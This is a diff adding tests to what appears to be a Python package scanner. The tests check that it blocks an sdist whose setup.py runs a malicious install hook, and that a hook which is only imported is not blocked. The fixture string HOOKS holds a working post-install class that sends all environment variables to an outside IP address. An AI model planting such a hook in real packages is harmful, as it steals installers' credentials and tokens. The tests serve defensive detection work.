@@ -140,3 +140,37 @@ def test_an_init_calling_a_harmless_helper_stays_clean() -> None:
     }
     decision, findings = _judge(PackageKind.WHEEL, files)
     assert decision is Decision.ALLOW, findings
+
+
+HOOKS = """\
+import os
+import urllib.request
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        body = str(dict(os.environ)).encode()
+        urllib.request.urlopen("http://203.0.113.51/p", data=body)
+"""
+
+
+def test_a_cmdclass_imported_from_the_package_runs_at_install_time() -> None:
+    files = {
+        "setup.py": (
+            "from setuptools import setup\nfrom evil.hooks import PostInstall\n"
+            "setup(name='evil', cmdclass={'install': PostInstall})\n"
+        ),
+        "evil/__init__.py": "",
+        "evil/hooks.py": HOOKS,
+    }
+    decision, findings = _judge(PackageKind.SDIST, files)
+    assert decision is Decision.BLOCK, findings
+    assert any("named by setup.py: runs at install time" in f.message for f in findings)
+
+
+def test_a_class_imported_on_import_is_not_run_by_being_named() -> None:
+    files = {"evil/__init__.py": "from .hooks import PostInstall\n", "evil/hooks.py": HOOKS}
+    decision, findings = _judge(PackageKind.WHEEL, files)
+    assert decision is not Decision.BLOCK, findings
